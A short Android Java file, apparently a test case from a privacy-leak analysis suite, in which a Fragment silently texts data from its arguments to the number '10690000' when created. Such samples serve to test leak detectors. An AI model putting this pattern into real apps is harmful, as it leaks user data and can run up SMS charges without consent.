package cn.privlens.suite.fragment_arguments_other;

import android.app.Fragment;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Page extends Fragment {
    @Override
    public void onActivityCreated(Bundle state) {
        super.onActivityCreated(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, getArguments().getString("t"), null, null);
    }
}
